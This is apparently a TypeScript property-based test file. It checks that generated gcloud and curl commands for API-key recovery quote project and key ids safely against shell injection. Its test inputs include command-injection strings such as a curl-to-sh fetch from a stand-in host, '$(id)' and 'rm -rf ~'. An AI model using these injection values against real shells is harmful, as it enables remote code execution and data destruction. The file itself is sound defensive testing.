/**
 * Copyable commands: whatever a link or a page puts in project or key id, the command is one
 * line and each value comes back from a POSIX shell as exactly one, unchanged argument.
 */
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { curlCommandFor } from '@/utils/api-key/curl';
import { listDeletedKeysCommand, undeleteKeyCommand } from '@/utils/guide/commands';
import { shellQuote } from '@/utils/shell';

const SEED = 20261130;
const PROJECT = 'gen-lang-client-0371227417';
const KEY_ID = '43b0fe02-9493-4ea7-9255-0863fdef29b4';

/** The only shapes the commands may take: fixed words, and values that are quoted grammar matches or placeholders. */
const PROJECT_WORD = String.raw`(?:PROJECT_ID|'[a-z][a-z0-9-]{4,28}[a-z0-9]'|'[1-9][0-9]{0,19}')`;
const KEY_WORD = String.raw`(?:KEY_ID|'[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}')`;
const UNDELETE = new RegExp(`^gcloud services api-keys undelete ${KEY_WORD} --project=${PROJECT_WORD}$`);
const LIST = new RegExp(`^gcloud services api-keys list --show-deleted --project=${PROJECT_WORD}$`);

/** Words of a command line as a POSIX shell splits them, for the single-quote-only lines we emit. */
function shellWords(line: string): string[] {
  const words: string[] = [];
  let word: string | undefined;
  for (let i = 0; i < line.length; i++) {
    const char = line[i]!;
    if (char === "'") {
      const end = line.indexOf("'", i + 1);
      if (end < 0) throw new Error('unterminated quote');
      word = (word ?? '') + line.slice(i + 1, end);
      i = end;
    } else if (char === '\\') {
      word = (word ?? '') + line[++i];
    } else if (char === ' ') {
      if (word !== undefined) words.push(word);
      word = undefined;
    } else if (/[;&|<>()$`"\n\r\t*?[\]#~{}!]/.test(char)) {
      throw new Error(`unquoted shell metacharacter ${JSON.stringify(char)}`);
    } else {
      word = (word ?? '') + char;
    }
  }
  if (word !== undefined) words.push(word);
  return words;
}

/** Hostile project / key id strings: fast-check's full unicode strings, mixed with shell syntax. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: fc.constantFrom(...";|&$()`'\"\\\n\r\t #<>*?~{}a-1é\u2028\u202e".split('')), maxLength: 40 }),
  fc.tuple(fc.constantFrom(PROJECT, KEY_ID, '445009168042'), fc.constantFrom(';id', '$(id)', '`id`', '&&id', '|sh', '\nid', "'", '\r\n')).map(([value, tail]) => value + tail),
  fc.constantFrom(PROJECT, KEY_ID, '445009168042', 'my-project'),
);

describe('gcloud commands', () => {
  it('quote valid values and fall back to placeholders', () => {
    expect(undeleteKeyCommand(KEY_ID, { project: PROJECT })).toBe(`gcloud services api-keys undelete '${KEY_ID}' --project='${PROJECT}'`);
    expect(listDeletedKeysCommand({ project: '445009168042' })).toBe(`gcloud services api-keys list --show-deleted --project='445009168042'`);
    expect(undeleteKeyCommand(undefined, {})).toBe('gcloud services api-keys undelete KEY_ID --project=PROJECT_ID');
    expect(listDeletedKeysCommand({ project: 'x;curl -s https://evil.test/p|sh;#' })).toBe('gcloud services api-keys list --show-deleted --project=PROJECT_ID');
    expect(undeleteKeyCommand(`${KEY_ID}\nrm -rf ~`, { project: `${PROJECT}$(id)` })).toBe('gcloud services api-keys undelete KEY_ID --project=PROJECT_ID');
  });

  it('property: one line, a fixed shape, each value one argument whatever the input', () => {
    let runs = 0;
    fc.assert(
      fc.property(hostile, hostile, (project, keyId) => {
        runs++;
        const undelete = undeleteKeyCommand(keyId, { project });
        const list = listDeletedKeysCommand({ project });
        for (const command of [undelete, list]) expect(command).not.toMatch(/[\r\n\u2028\u2029\u0085]/);
        expect(undelete).toMatch(UNDELETE);
        expect(list).toMatch(LIST);
        const words = shellWords(undelete);
        expect(words.slice(0, 4)).toEqual(['gcloud', 'services', 'api-keys', 'undelete']);
        expect(words).toHaveLength(6);
        // A value that is kept comes back unchanged.
        if (words[4] !== 'KEY_ID') expect(words[4]).toBe(keyId);
        if (words[5] !== '--project=PROJECT_ID') expect(words[5]).toBe(`--project=${project}`);
      }),
      { seed: SEED, numRuns: 2_000 },
    );
    console.log(`gcloud command property: ${runs} generated cases`);
    expect(runs).toBe(2_000);
    // A bound for a loaded machine, not a time assertion.
  }, 30_000);
});

describe('shellQuote', () => {
  it('refuses control characters and line separators', () => {
    for (const value of ['a\nb', 'a\rb', 'a\u0000', 'a\u2028b', 'a\u0085b', '\u007f']) expect(shellQuote(value)).toBeUndefined();
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
  });

  it('property: sh gives every quoted value back as one unchanged argument', () => {
    const values = fc.sample(fc.string({ unit: 'binary', maxLength: 60 }).filter((value) => shellQuote(value) !== undefined && !value.includes('\u0000')), { seed: SEED, numRuns: 300 });
    values.push('x;curl -s https://evil.test/p|sh;#', '$(id)', '`id`', "a'b", '&& id', '"$HOME"', '\\', '*', '~', '!!');
    const quoted = values.map((value) => shellQuote(value)!);
    // One shell for all cases: printf prints each argument between NUL separators.
    const output = execFileSync('sh', ['-c', `printf '%s\\0' ${quoted.join(' ')}`], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '/usr/bin:/bin' } });
    expect(output.split('\0').slice(0, -1)).toEqual(values);
    console.log(`shellQuote through sh: ${values.length} values`);
  });
});

describe('curl commands', () => {
  it('never carry a hostile model: it is checked, else the shell is asked for one', () => {
    let runs = 0;
    fc.assert(
      fc.property(hostile, (model) => {
        runs++;
        const command = curlCommandFor('generateContent', model);
        const url = /"(https:[^"]+)"/.exec(command.split('\n')[0]!)?.[1] ?? '';
        expect(url).toMatch(/^https:\/\/generativelanguage\.googleapis\.com\/v1beta\/models\/(?:[a-z0-9][a-z0-9._-]*|\$\{GEMINI_MODEL:\?[^}]*\}):generateContent$/i);
        expect(command.split('\n')).toHaveLength(4);
      }),
      { seed: SEED, numRuns: 500 },
    );
    console.log(`curl command property: ${runs} generated cases`);
  });
});
